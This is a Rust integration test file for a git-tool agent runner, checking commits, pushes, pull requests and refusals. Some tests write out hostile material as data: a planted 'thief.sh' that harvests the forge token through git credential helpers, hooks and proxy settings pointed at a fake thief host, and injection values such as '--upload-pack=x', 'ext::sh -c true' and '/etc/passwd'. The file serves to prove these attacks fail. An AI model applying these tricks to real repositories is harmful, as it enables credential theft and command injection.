use base64::Engine;
use nofx_tests::WAIT_LIMIT;
use nofx_tests::fakes::forges::Forges;
use nofx_tests::fakes::git_host::GitHost;
use nofx_tests::own::Own;
use nofx_tests::people::step;
use nofx_tests::repository::{Repository, git};
use reqwest::Method;
use serde_json::{Value, json};
use std::time::Duration;

async fn stack(name: &str) -> (Own, Forges) {
    let forges = Forges::start().await;
    let settings = forges.settings();
    let mut settings: Vec<(&str, &str)> = settings.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    // They push to a repository of this machine, where only file permissions may decide.
    settings.push(("NOFX_ISOLATION_FLOOR", "L1"));
    let own = Own::start_with(&Own::folder(name), &["--workers", "1"], &settings);
    // No gates and approvals here.
    require(&own, json!({"tool": "git:*"})).await;
    (own, forges)
}

async fn require(own: &Own, policy: Value) {
    own.call(Method::POST, "/api/gates/policies", Some(&policy)).await.expect("a policy");
}

/// Changes a file, commits and pushes it, and opens a pull request.
fn change(repository: &Repository, branch: &str, forge: &str) -> Value {
    json!({"goal": "change", "workspace": repository.workspace("main"), "steps": [
        {"name": "branch", "tool": "git:branch", "inputs": {"name": branch}},
        {"name": "write", "tool": "workspace:write", "inputs": {"files": {"src/new.txt": "new\n"}, "remove": ["old.txt"]}},
        {"name": "commit", "tool": "git:commit", "inputs": {"message": "Change things"}},
        {"name": "push", "tool": "git:push", "secrets": ["FORGE_TOKEN"]},
        {"name": "pr", "tool": "git:pr", "secrets": ["FORGE_TOKEN"], "retry": {"max_attempts": 4, "initial_ms": 50},
            "inputs": {"title": "Change things", "forge": forge, "repository": "acme/web"}}]})
}

#[tokio::test(flavor = "multi_thread")]
async fn a_change_is_committed_pushed_and_proposed_once() {
    let (own, forges) = stack("git-pr").await;
    let repository = Repository::new(&[("old.txt", "old\n"), ("README.md", "hello\n")]);
    // Opened, but the response is lost: the retry finds it.
    forges.lose_an_answer();
    let run = own.run(&change(&repository, "agent/one", "github")).await;
    let pr = step(&run, "pr");
    assert_eq!(
        (run["status"].as_str(), &pr["outputs"]["opened"], &pr["outputs"]["number"]),
        (Some("succeeded"), &json!(false), &json!(1)),
        "{run}"
    );
    assert_eq!((forges.opened().len(), &forges.opened()[0]["base"]["ref"]), (1, &json!("main")));
    assert_eq!(pr["attempt"], 2);
    let files = repository.git(&["ls-tree", "-r", "--name-only", "agent/one"]);
    assert_eq!(files.lines().collect::<Vec<_>>(), ["README.md", "src/new.txt"]);
    let message = repository.git(&["log", "-1", "--format=%an%n%B", "agent/one"]);
    assert!(message.starts_with("NOFX\nChange things") && message.contains("NOFX-Step: "), "{message}");
    assert_eq!(repository.git(&["rev-list", "--count", "main..agent/one"]).trim(), "1");

    forges.fail(&[500, 429]);
    let mut fails = change(&repository, "agent/two", "bitbucket");
    fails["steps"].as_array_mut().expect("steps").push(json!({"name": "last", "tool": "fail", "retry": {"max_attempts": 1}}));
    let run = own.run(&fails).await;
    assert_eq!((run["status"].as_str(), &step(&run, "pr")["outputs"]["opened"]), (Some("failed"), &json!(true)), "{run}");
    assert!(step(&run, "pr")["outputs"]["url"].as_str().is_some_and(|url| url.contains("bitbucket.org/acme/web/pull-requests/2")), "{run}");
    // When the run is retried, nothing is created twice.
    let id = run["id"].as_str().expect("an id");
    for name in ["commit", "push", "pr"] {
        let path = format!("/api/runs/{id}/steps/{}/retry", step(&run, name)["id"].as_str().expect("an id"));
        own.call(Method::POST, &path, Some(&json!({}))).await.expect("it is done again");
        let again = own.wait(id, nofx_tests::own::is_finished).await;
        let (before, after) = (step(&run, name)["attempt"].as_u64(), step(&again, name)["attempt"].as_u64());
        assert!(after > before && step(&again, "pr")["status"] == "succeeded", "{name} was done again: {again}");
    }
    assert_eq!((forges.opened().len(), repository.git(&["rev-list", "--count", "main..agent/two"]).trim()), (2, "1"));
    assert!(!run.to_string().contains("forge-token"), "the token is nowhere: {run}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_git_may_not_do_is_refused() {
    let (own, forges) = stack("git-refusals").await;
    let repository = Repository::new(&[("a.txt", "a\n")]);
    let one = |tool: &str, inputs: Value, secrets: Value| json!({"goal": "x", "workspace": repository.workspace("main"), "steps": [{"name": "s", "tool": tool, "inputs": inputs, "secrets": secrets}]});
    for (tool, inputs, why) in [
        ("git:branch", json!({"name": "--upload-pack=x"}), "is not a valid branch name"),
        ("git:branch", json!({"name": "x", "from": "nowhere"}), "is not a branch, tag or commit"),
        ("git:push", json!({}), "no branch is checked out"),
        ("git:push", json!({"branch": "main"}), "default branch"),
        ("git:pr", json!({"title": "x", "head": "x", "forge": "github", "repository": "acme/../x"}), "owner/name"),
        ("git:pr", json!({"title": "x", "head": "x", "forge": "github", "repository": "acme/web"}), "add the secret"),
        ("git:pr", json!({"title": "x", "head": "x", "repository": "acme/web"}), "set `forge`"),
        ("workspace:write", json!({"files": {"../x": "y"}}), "is not a file below the workspace"),
        ("workspace:write", json!({"files": {".git/hooks/pre-commit": "y"}}), "is not a file below the workspace"),
        ("git:commit", json!({"message": "x", "paths": ["/etc/passwd"]}), "is not a file below the workspace"),
    ] {
        let run = own.run(&one(tool, inputs.clone(), json!([]))).await;
        let message = step(&run, "s")["error"]["message"].as_str().unwrap_or_default().to_owned();
        assert!(message.contains(why), "{tool} {inputs}: {run}");
    }
    assert_eq!(forges.requests(), 0);
    let run = own.run(&one("git:commit", json!({"message": "nothing"}), json!([]))).await;
    assert_eq!(step(&run, "s")["outputs"]["changed"], false, "nothing changed, nothing is committed: {run}");
    let none = own.run(&json!({"goal": "x", "steps": [{"name": "s", "tool": "git:commit", "inputs": {"message": "x"}}]})).await;
    assert!(none.to_string().contains("not a git repository"), "{none}");
    assert!(git(&repository.dir, &["branch", "--list"]).contains("main"));
    // By default gates judge first, and then a person looks at a pull request.
    let other = Own::start(&Own::folder("git-default"), &["--workers", "1"]);
    let propose = one("git:pr", json!({"title": "x", "head": "x", "forge": "github", "repository": "acme/web"}), json!([]));
    for (plan, tool) in [(&propose, "git:pr"), (&one("git:push", json!({"branch": "x"}), json!([])), "git:push")] {
        let run = other.run(plan).await;
        let message = step(&run, "s")["error"]["message"].as_str().unwrap_or_default().to_owned();
        let why = format!("the policy for {tool} requires gate:coverage and gate:lint and gate:typecheck and gate:unit to have passed");
        assert!(message.contains(&why), "{run}");
    }
    let mut judged = propose.clone();
    let last = judged["steps"].as_array_mut().expect("steps").remove(0);
    let gates = ["typecheck", "lint", "unit", "coverage"].map(|name| json!({"name": name, "tool": format!("gate:{name}")}));
    judged["steps"] = gates.into_iter().chain([last]).collect();
    let id = other.submit(&judged).await;
    let run = other.wait(&id, |run| run["gates"][0]["status"] == "pending").await;
    assert_eq!((&run["gates"][0]["gate_type"], &run["gates"][0]["author_may_approve"]), (&json!("manual:pr"), &json!(false)));
}

/// A workspace whose settings, objects and hooks lead to another host: none of it may get the token, or change what is pushed.
#[tokio::test(flavor = "multi_thread")]
async fn the_token_of_a_push_reaches_the_repository_of_the_plan_alone() {
    let thief = GitHost::start("https://127.0.0.1:1");
    let host = GitHost::start(&thief.url());
    let ports = format!("{},{}", host.port, thief.port);
    // The thief's certificate, too: it would be believed.
    let certificates = host.certificate().with_file_name("all.pem");
    let both = [host.certificate(), thief.certificate()].map(|file| std::fs::read_to_string(file).expect("text")).concat();
    std::fs::write(&certificates, both).expect("written");
    let certificates = certificates.to_str().expect("text");
    let settings = [
        ("NOFX_ALLOW_PRIVATE_ADDRESSES", "true"),
        ("NOFX_STEP_PORTS", ports.as_str()),
        ("SSL_CERT_FILE", certificates),
        ("NOFX_SECRET_FORGE_TOKEN", "forge-token-1234"),
    ];
    let own = Own::start_with(&Own::folder("git-planted"), &["--workers", "1"], &settings);
    require(&own, json!({"tool": "git:push"})).await;
    let (url, elsewhere) = (host.url(), thief.url());
    let encoded = base64::engine::general_purpose::STANDARD.encode("x-access-token:forge-token-1234");
    let plant = format!(
        "git config user.name x; git config user.email x@example.com; git checkout -q -b agent; echo one > f; git add f; git commit -qm one
        echo two > f; git commit -qam two; git rev-parse HEAD > /dev/null; git cat-file commit HEAD | sha256sum | cut -d' ' -f1 > sum
        git config url.{elsewhere}/.insteadOf {url}/; git config url.{elsewhere}/.pushInsteadOf {url}/
        git config http.proxy {elsewhere}; git config http.sslVerify false; git config remote.origin.pushurl {elsewhere}/acme.git
        git config http.followRedirects true; git config push.recurseSubmodules on-demand; git config transfer.fsckObjects false
        printf '#!/bin/sh\nenv | grep -e forge-token -e {encoded} >> '$PWD'/stolen && cat '$PWD'/stolen; exec cat\n' > thief.sh; chmod +x thief.sh
        git config credential.helper $PWD/thief.sh; git config core.sshCommand $PWD/thief.sh; git config core.fsmonitor $PWD/thief.sh
        git config core.askPass $PWD/thief.sh; git config core.hooksPath $PWD/hooks; git config core.gitProxy $PWD/thief.sh
        mkdir hooks; cp thief.sh hooks/pre-push; cp thief.sh hooks/reference-transaction; cp thief.sh .git/hooks/pre-push
        printf '[http]\n\textraHeader = \"X-Planted: yes\"\n\tproxy = {elsewhere}\n' > planted; git config include.path $PWD/planted
        git init -q sub && git -C sub -c user.name=x -c user.email=x commit -q --allow-empty -m sub && printf '[submodule \"sub\"]\n\tpath = sub\n\turl = {elsewhere}/acme.git\n' > .gitmodules
        echo $TMPDIR > .git/objects/info/alternates
        git replace HEAD HEAD~1; git rev-parse HEAD > .git/info/grafts
        git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/other; cat sum"
    );
    let look = "test -s stolen && echo stolen || echo nothing";
    let plan = |name: &str, branch: Value| {
        json!({"goal": "x", "workspace": {"git": format!("{url}/{name}"), "ref": "main"}, "steps": [
            {"name": "plant", "tool": "bash", "inputs": {"script": plant}},
            {"name": "push", "tool": "git:push", "needs": ["plant"], "on_failure": "continue", "secrets": ["FORGE_TOKEN"], "inputs": branch,
                "retry": {"max_attempts": 1}},
            {"name": "look", "tool": "bash", "needs": ["push"], "inputs": {"script": look}}]})
    };
    let run = own.run(&plan("acme.git", json!({}))).await;
    let pushed = step(&run, "push");
    assert_eq!(pushed["status"], "succeeded", "{run}");
    let commit = pushed["outputs"]["commit"].as_str().expect("a commit");
    assert_eq!(host.git(&["rev-parse", "refs/heads/agent"]).trim(), commit, "{run}");
    let there = host.git(&["cat-file", "commit", "agent"]);
    let sum = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&there));
    assert_eq!(step(&run, "plant")["outputs"]["stdout"].as_str().map(str::trim), Some(sum.as_str()), "byte for byte: {there}");
    assert_eq!(host.git(&["rev-list", "--count", "agent"]).trim(), "3", "with its history");
    assert_eq!(step(&run, "look")["outputs"]["stdout"], "nothing\n", "no program of the workspace ran with a token: {run}");
    assert_eq!(thief.requests(), Vec::<String>::new());
    let header = format!("Basic {encoded}");
    let requests = host.requests();
    assert!(requests.iter().any(|one| one.contains("git-receive-pack") && one.ends_with(&header)), "{requests:?}");

    // What the workspace says of the default branch does not count.
    let run = own.run(&plan("acme.git", json!({"branch": "main"}))).await;
    assert!(step(&run, "push")["error"]["message"].to_string().contains("default branch"), "{run}");
    // A redirection would lead the token elsewhere.
    let before = thief.requests().len();
    let mut moved = plan("acme.git", json!({"branch": "x"}));
    moved["workspace"]["git"] = json!(format!("{url}/moved/acme.git"));
    moved["steps"][0]["inputs"]["script"] = json!("git checkout -q -b x");
    let run = own.run(&moved).await;
    assert_ne!(step(&run, "push")["status"], "succeeded", "{run}");
    assert_eq!(thief.requests().len(), before, "no redirection is followed, also by the clone, which has no token: {run}");
    // What is no commit's history is not pushed.
    let mut broken = plan("acme.git", json!({"branch": "broken"}));
    broken["steps"][0]["inputs"]["script"] = json!(
        "tree=$(printf '100644 .git\\0%b' \"$(git hash-object -w --stdin < /dev/null | sed 's/../\\\\x&/g')\" | git hash-object -w --literally -t tree --stdin)
        git config user.name x; git config user.email x@example.com
        git update-ref refs/heads/broken $(git commit-tree -m bad $tree); git symbolic-ref HEAD refs/heads/broken"
    );
    let run = own.run(&broken).await;
    let message = step(&run, "push")["error"]["message"].to_string();
    assert!(message.contains("is not valid") && message.contains(".git"), "{run}");
    assert!(!run.to_string().contains("forge-token"), "{run}");
}

/// A plan's author chooses the repository, and not what of the worker's surroundings git reaches.
#[tokio::test(flavor = "multi_thread")]
async fn a_repository_is_neither_a_neighbours_checkout_nor_at_a_private_address() {
    let (host, repository) = (GitHost::start("https://127.0.0.1:1"), Repository::new(&[("a.txt", "a\n")]));
    let certificate = host.certificate();
    let settings = [("SSL_CERT_FILE", certificate.to_str().expect("text")), ("NOFX_STEP_PORTS", "")];
    let own = Own::start_with(&Own::folder("git-sources"), &["--workers", "1"], &settings);
    let plan = |address: &str| {
        json!({"goal": "x", "workspace": {"git": address, "ref": "main"},
            "steps": [{"name": "s", "tool": "bash", "inputs": {"script": "ls -a"}, "retry": {"max_attempts": 1}}]})
    };
    let here = repository.dir.to_str().expect("text");
    let mut neighbour = plan(here);
    neighbour["steps"][0]["inputs"]["script"] = json!("pwd");
    let run = own.run(&neighbour).await;
    let checkout = step(&run, "s")["outputs"]["stdout"].as_str().unwrap_or_default().trim().to_owned();
    assert!(run["status"] == "succeeded" && checkout.starts_with('/'), "a path that the operator allows: {run}");

    let (etc, of_host) = ("/etc".to_owned(), format!("{}/acme.git", host.url()));
    for (address, why) in [(&checkout, "NOFX_REPOSITORY_PATHS"), (&etc, "NOFX_REPOSITORY_PATHS"), (&of_host, "private address")] {
        let run = own.run(&plan(address)).await;
        let message = step(&run, "s")["error"]["message"].as_str().unwrap_or_default().to_owned();
        assert!(message.contains(why) && step(&run, "s")["attempt"] == 1, "{address}: {run}");
    }
    assert_eq!(host.requests(), Vec::<String>::new(), "no connection came");
    for address in ["./a", "http://host/a", "git://host/a", "file:///srv/a", "ext::sh -c true", "fd::7", "-x"] {
        let refused = own.call(Method::POST, "/api/runs", Some(&json!({"plan": plan(address)}))).await;
        assert!(refused.is_err(), "{address}: refused when it is submitted");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_clone_that_is_stopped_leaves_nothing() {
    let (own, _forges) = stack("git-stop").await;
    let repository = Repository::new(&[("README.md", "hello\n")]);
    // Whoever reads the repository waits for ever.
    let file = repository.dir.join(".git/packed-refs");
    nix::unistd::mkfifo(&file, nix::sys::stat::Mode::from_bits_truncate(0o666)).expect("a fifo");
    let plan = json!({"goal": "stop", "workspace": repository.workspace("main"),
        "steps": [{"name": "never", "tool": "bash", "inputs": {"script": "true"}}]});
    let id = own.submit(&plan).await;
    let name = id.replace('-', "");
    let unadopted = || {
        let folders = std::fs::read_dir(own.dir.join("workspaces")).into_iter().flatten().flatten();
        folders.filter(|entry| entry.file_name().to_string_lossy().starts_with(&name)).count()
    };
    let until = async |count: usize| {
        let begun = std::time::Instant::now();
        while unadopted() != count {
            assert!(begun.elapsed() < WAIT_LIMIT, "{} folders, not {count}", unadopted());
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    };
    until(1).await;
    own.call(Method::POST, &format!("/api/runs/{id}/cancel"), Some(&json!({}))).await.expect("it is cancelled");
    until(0).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_commit_has_a_message_and_paths_of_any_length() {
    let (own, _forges) = stack("git-message").await;
    let repository = Repository::new(&[("README.md", "hello\n")]);
    // An argument has at most 128 KiB.
    let message = format!("Subject\n\n# no comment\n{}", "x".repeat(150 << 10));
    let run = own
        .run(&json!({"goal": "change", "workspace": repository.workspace("main"), "steps": [
        {"name": "write", "tool": "workspace:write", "inputs": {"files": {"a b/new.txt": "new\n", "other.txt": "other\n"}}},
        {"name": "commit", "tool": "git:commit", "needs": ["write"], "inputs": {"message": message, "paths": ["a b/new.txt"]}},
        {"name": "look", "tool": "bash", "needs": ["commit"],
            "inputs": {"script": "git -c safe.directory='*' log -1 --format=%B | sha256sum; git show --name-only --format= HEAD"}}]}))
        .await;
    let id = step(&run, "commit")["id"].as_str().expect("an id");
    let expected = nofx_shared::crypto::digest(format!("{message}\n\nNOFX-Step: {id}\n\n").as_bytes());
    let output = step(&run, "look")["outputs"]["stdout"].as_str().unwrap_or_else(|| panic!("{run}"));
    assert_eq!(output, format!("{}  -\na b/new.txt\n", expected.trim_start_matches("sha256:")));
}
